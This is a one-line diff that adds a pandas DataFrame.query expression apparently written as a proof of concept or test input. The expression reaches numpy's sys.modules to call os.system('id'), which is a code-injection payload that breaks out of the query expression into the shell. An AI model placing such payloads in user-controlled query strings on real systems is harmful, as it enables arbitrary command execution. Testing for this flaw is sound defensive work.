@@ -1,0 +1,1 @@
+data["a"].query("@np.sys.modules['os'].system('id')")
